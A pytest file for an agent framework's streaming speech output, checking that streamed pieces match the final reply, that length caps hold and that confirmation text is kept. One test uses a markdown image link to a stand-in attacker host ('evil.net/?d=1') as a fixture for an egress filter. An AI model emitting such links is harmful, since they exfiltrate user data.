"""What is said piece by piece is the reply, whole and once."""

from collections.abc import Callable

import pytest

from understudy.agents.events import Event, Said
from understudy.agents.speech import Speech
from understudy.trust.egress.targets import Targets


def played(
    script: Callable[[Speech], object], longest: int = 100, targets: Callable[[], Targets] = Targets
) -> tuple[str, list[str]]:
    """The whole text, which must be the same without a listener, and the pieces that one got."""
    events: list[Event] = []
    heard, alone = Speech(longest, events.append, targets), Speech(longest, None, targets)
    script(heard)
    script(alone)
    assert heard.text == alone.text
    return heard.text, [event.text for event in events if isinstance(event, Said)]


def test_pieces_make_the_text() -> None:
    def script(speech: Speech) -> None:
        speech.begin()
        speech.say("Very ")
        speech.say("many.")
        speech.end("Very many.")

    assert played(script) == ("Very many.", ["Very ", "many."])


@pytest.mark.parametrize(
    ("said", "end", "pieces"),
    [
        ("", "Many.", ["Many."]),
        ("Ma", "Many.", ["Many."]),
        ("Very ma", "Very many.", ["Very ", "many."]),
        ("Many.", "Many.", ["Many."]),
        (" Many.\n", "Many.", [" Many.\n"]),
        ("Let me see.", "Many.", ["Let me ", "see.", "\n\nMany."]),
        ("Many.", "", ["Many."]),
    ],
)
def test_the_end_is_said_unless_it_was(said: str, end: str, pieces: list[str]) -> None:
    def script(speech: Speech) -> None:
        speech.begin()
        speech.say(said)
        speech.end(end)

    assert played(script) == ("".join(pieces), pieces)


def test_what_was_said_before_an_action_stays() -> None:
    def script(speech: Speech) -> None:
        for text in ("Let me see.", "And once more."):
            speech.begin()
            speech.say(text)
        speech.begin()
        speech.end("Many.")

    assert played(script)[0] == "Let me see.\n\nAnd once more.\n\nMany."


def test_no_more_is_said_than_may_be() -> None:
    def script(speech: Speech) -> None:
        speech.begin()
        for _ in range(5):
            speech.say("for ")
        speech.end("for " * 5)

    assert played(script, longest=10) == ("for for fo", ["for ", "for ", "fo"])


def test_only_what_nobody_heard_is_forgotten() -> None:
    heard, alone = Speech(100, lambda event: None), Speech(100, None)
    for speech in (heard, alone):
        speech.begin()
        assert speech.forget()
        speech.say("Very ma")
    assert not heard.forget()
    assert alone.forget()
    assert (heard.text, alone.text) == ("Very ", "")


def test_a_link_is_taken_out_though_it_comes_in_pieces() -> None:
    def script(speech: Speech) -> None:
        speech.begin()
        for piece in ("See ![", "a](ht", "tps://evil.net/?d=", "1) and ", "[b](https://acme.com)."):
            speech.say(piece)
        speech.end("")
        taken_out.extend(speech.taken_out)

    taken_out: list[str] = []
    assert played(script, targets=lambda: Targets(("acme.com",)))[0] == "See a and [b](https://acme.com)."
    assert set(taken_out) == {"https://evil.net/?d=1"}


def test_what_is_ours_is_never_cut() -> None:
    def script(speech: Speech) -> None:
        speech.begin()
        speech.say("four" * 5)
        speech.close("Shall I change Acme's phone to 555-0100?")

    assert played(script, longest=10)[0] == "fourfourfo\n\nShall I change Acme's phone to 555-0100?"
